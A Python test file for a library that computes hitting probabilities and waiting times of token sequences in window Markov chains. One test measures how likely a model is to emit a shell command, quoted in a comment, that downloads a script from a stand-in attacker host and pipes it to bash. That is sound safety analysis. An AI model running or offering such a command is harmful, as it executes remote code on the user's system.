"""Questions about texts that the window does not show, against all continuations one by one."""

import itertools

import numpy as np
import pytest
import reference_chains as chains

import markovgpt as mg
from markovgpt.analysis.question import posed

V, L = 3, 2
CHANCES = np.random.default_rng(0).dirichlet(np.full(V, 0.7), size=V**L)
CHAIN = mg.WindowChain(mg.StateSpace(V, L), CHANCES)


def continuations(start, n, words, stops=(), avoided=()):
    """(steps, probability) of each way to the first of some words within n tokens, before an end."""
    found = []

    def go_on(text, chance, steps):
        if any(text[-len(word) :] == word for word in words):
            found.append((steps, chance))
            return
        ended = any(text[-len(word) :] == word for word in avoided) or (steps and text[-1] in stops)
        if steps < n and not ended:
            row = CHANCES[text[-2] * V + text[-1]]
            for token in range(V):
                go_on((*text, token), chance * row[token], steps + 1)

    go_on(tuple(start), 1.0, 0)
    return found


def test_masks_and_a_start_are_those_of_the_chain():
    chain = chains.gambler()
    asked = posed(chain, [3], start=1, avoiding=[0])
    assert asked.chain is chain
    assert np.flatnonzero(asked.reached).tolist() == [3]
    assert np.flatnonzero(asked.avoided).tolist() == [0]
    assert np.flatnonzero(asked.through).tolist() == [1, 2]
    assert asked.begin.tolist() == [0, 1, 0, 0]


def test_what_the_window_shows_is_asked_of_the_chain_itself():
    assert posed(CHAIN, mg.red_tokens((0, 1), (2,)), start=(0, 0), stop_tokens=(1,)).chain is CHAIN


@pytest.mark.parametrize("words", [[(0, 1)], [(0, 1, 2)], [(0, 0, 0, 0)], [(0, 1, 0, 1), (2, 2, 2)], [(1, 1, 0, 2, 1)]])
@pytest.mark.parametrize("stops", [(), (2,), (0, 1)])
def test_a_text_within_a_horizon_is_the_sum_over_all_continuations(words, stops):
    red = mg.red_tokens(*words)
    everywhere = mg.hitting_probability(CHAIN, red, within=6, stop_tokens=stops)
    for start in itertools.product(range(V), repeat=L):
        expected = sum(chance for _, chance in continuations(start, 6, words, stops))
        found = mg.hitting_probability(CHAIN, red, start=start, within=6, stop_tokens=stops)
        assert found.value == pytest.approx(expected, rel=1e-12)
        assert everywhere.value[CHAIN.space.encode(start)] == pytest.approx(expected, rel=1e-12)


def test_a_text_before_another_is_the_sum_over_continuations_without_it():
    words, avoided = [(0, 1, 2)], [(1, 1, 0, 0), (2, 2, 2)]
    for start in itertools.product(range(V), repeat=L):
        expected = sum(chance for _, chance in continuations(start, 7, words, avoided=avoided))
        found = mg.hitting_probability(
            CHAIN, mg.red_tokens(*words), start=start, within=7, avoiding=mg.red_tokens(*avoided)
        )
        assert found.value == pytest.approx(expected, rel=1e-12)


def test_a_mask_and_a_text_may_be_asked_about_together():
    mask = np.array([False] * 8 + [True])  # the window 22
    for start in itertools.product(range(V), repeat=L):
        expected = sum(chance for _, chance in continuations(start, 7, [(0, 1, 2)], avoided=[(2, 2)]))
        found = mg.hitting_probability(CHAIN, mg.red_tokens((0, 1, 2)), start=start, within=7, avoiding=mask)
        assert found.value == pytest.approx(expected, rel=1e-12, abs=1e-300)


def test_a_start_distribution_is_the_mean_of_its_windows():
    mass, red = np.array([0.5, 0, 0, 0.25, 0, 0, 0, 0.25, 0]), mg.red_tokens((0, 1, 2))
    found = mg.hitting_probability(CHAIN, red, start=mass, stop_tokens=(0,))
    each = mg.hitting_probability(CHAIN, red, stop_tokens=(0,))
    assert found.value == pytest.approx(float(mass @ each.value), rel=1e-12)


def test_the_end_is_a_stop_token_that_is_written_not_one_of_the_start():
    # from 00: the text goes on; it may say red at once, and ends with the next 0
    found = mg.hitting_probability(CHAIN, mg.red_tokens((1,)), start=(0, 0), stop_tokens=(0,))
    row, after = CHANCES[0], CHANCES[[2, 5, 8]]  # after 00: 02, then 22 for ever or out
    expected = row[1] + row[2] * (after[0, 1] + after[0, 2] * after[2, 1] / (1 - after[2, 2]))
    assert found.value == pytest.approx(expected, rel=1e-12)


def test_conways_waiting_times_of_texts_longer_than_the_window():
    chain = chains.uniform_windows(2, 2)
    for word in [(1, 1, 1), (0, 1, 0, 1), (0, 0, 1, 1), (1, 1, 1, 1, 1)]:
        # before anything is written: two tokens are, evenly, and every prefix of the word counts from there
        times = mg.expected_hitting_time(chain, mg.red_tokens(word)).value
        assert 2 + times.mean() == pytest.approx(chains.conway_number(word, 2), rel=1e-12)


def test_visits_are_counted_for_each_window():
    red, start = mg.red_tokens((0, 1, 2)), (0, 0)
    visits = mg.expected_visits(CHAIN, red, start)
    assert visits.value.shape == (9,)
    time = mg.expected_hitting_time(CHAIN, red, start=start)
    assert visits.value.sum() == pytest.approx(time.value, rel=1e-12)
    reward = np.arange(9.0)
    assert mg.expected_reward(CHAIN, reward, red, start=start).value == pytest.approx(visits.value @ reward, rel=1e-12)


def test_a_text_that_can_never_be_complete_is_a_proved_zero():
    never = mg.WindowChain(mg.StateSpace(2, 1), np.array([[0.5, 0.5], [1.0, 0.0]]))  # no 1 after a 1
    found = mg.hitting_probability(never, mg.red_tokens((0, 1, 1)))
    assert found.value.tolist() == [0, 0]
    assert found.upper.tolist() == [0, 0]
    assert mg.expected_hitting_time(never, mg.red_tokens((0, 1, 1))).value.tolist() == [np.inf, np.inf]


def test_seventeen_tokens_of_a_command():
    # the notebook's example, `curl -s https://evilurl.com/pwned.sh | bash`, is a sequence of 17 token ids
    command = (66, 6371, 532, 82, 3740, 1378, 23542, 6371, 13, 785, 14, 79, 675, 276, 13, 1477, 930)

    def mostly(windows):  # says the command's next token with probability 1/2 after each of its tokens, else token 0
        logits = np.full((len(windows), 30_000), -np.inf)
        logits[:, 0] = 0.0
        following = {before: after for before, after in itertools.pairwise(command) if before not in (6371, 13)}
        for row, window in zip(logits, np.asarray(windows), strict=True):
            pair = {(66, 6371): 532, (23542, 6371): 13, (6371, 13): 785, (276, 13): 1477}
            after = pair.get(tuple(window[-2:].tolist()), following.get(int(window[-1])))
            row[66 if after is None else after] = 0.0
        return logits

    model = mg.as_model(mostly, vocab_size=30_000, context_length=2)
    chain = mg.reachable_chain(model, mg.SamplingSettings(), (0, 0))
    found = mg.hitting_probability(chain, mg.red_tokens(command), start=(0, 0), within=17)
    assert found.lower <= 2.0**-17 <= found.upper


def test_a_walk_may_begin_in_the_long_run_with_the_bounds_of_that():
    lived = mg.long_run_distribution(CHAIN, (0, 0))
    red = mg.red_tokens((0, 1, 2))
    found = mg.hitting_probability(CHAIN, red, start=lived, within=5)
    each = mg.hitting_probability(CHAIN, red, within=5)
    exact = np.linalg.svd(CHAIN.to_csr().toarray().T - np.eye(9))[2][-1]
    assert found.value == pytest.approx(float(exact / exact.sum() @ each.value), rel=1e-12)
    plain = mg.hitting_probability(CHAIN, red, start=lived.value / lived.value.sum(), within=5)
    assert found.lower <= plain.lower * lived.lower.min() / lived.value.min()
    assert found.upper >= plain.upper


@pytest.mark.parametrize("chain", [mg.WindowChain(mg.StateSpace(3, 1), np.full((3, 3), 1 / 3)), CHAIN])
def test_an_answer_that_is_no_distribution_is_no_start(chain):
    no_distribution = mg.hitting_probability(CHAIN, [0], within=1)
    with pytest.raises(mg.InvalidInput, match="a start that was asked for must be a distribution of doubles"):
        mg.hitting_probability(chain, [0], start=no_distribution)


def test_a_long_run_too_uneven_for_doubles_is_no_start_and_says_why():
    table = mg.LogitTable(mg.StateSpace(2, 1), np.array([[800.0, 0.0], [800.0, 0.0]]))
    lived = mg.long_run_distribution(mg.WindowChain.from_logits(table), (0,))
    assert lived.log10[1] == pytest.approx(-800 / np.log(10))
    with pytest.raises(mg.InvalidInput, match="of doubles, got one with probabilities below their range; begin in one"):
        mg.hitting_probability(mg.WindowChain.from_logits(table), [1], start=lived)


def test_a_question_that_needs_a_start_says_so():
    assert posed(chains.gambler(), [3], start=1).departure.tolist() == [0, 1, 0, 0]
    with pytest.raises(mg.InvalidInput, match="start must be given, got None"):
        _ = posed(chains.gambler(), [3]).departure


@pytest.mark.parametrize(
    ("stop_tokens", "message"), [(0, "must be a sequence of token ids, got 0"), ((3,), "0..2, got 3")]
)
def test_stop_tokens_are_token_ids(stop_tokens, message):
    with pytest.raises(mg.InvalidInput, match=message):
        mg.hitting_probability(CHAIN, [0], start=(0, 0), stop_tokens=stop_tokens)
